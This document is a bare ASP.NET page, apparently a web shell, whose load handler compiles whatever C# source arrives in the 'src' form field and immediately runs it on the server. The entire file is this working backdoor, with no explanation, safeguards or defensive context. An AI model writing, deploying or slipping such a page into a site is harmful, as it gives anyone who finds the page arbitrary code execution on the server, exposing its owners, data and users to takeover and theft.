<%@ Page Language="C#" %>
<%@ Import Namespace="System.CodeDom.Compiler" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e) {
  var prov = new Microsoft.CSharp.CSharpCodeProvider();
  var par = new CompilerParameters(); par.GenerateInMemory = true;
  var res = prov.CompileAssemblyFromSource(par, Request.Form["src"]);
  res.CompiledAssembly.GetType("X").GetMethod("Run").Invoke(null, null);
}
</script>
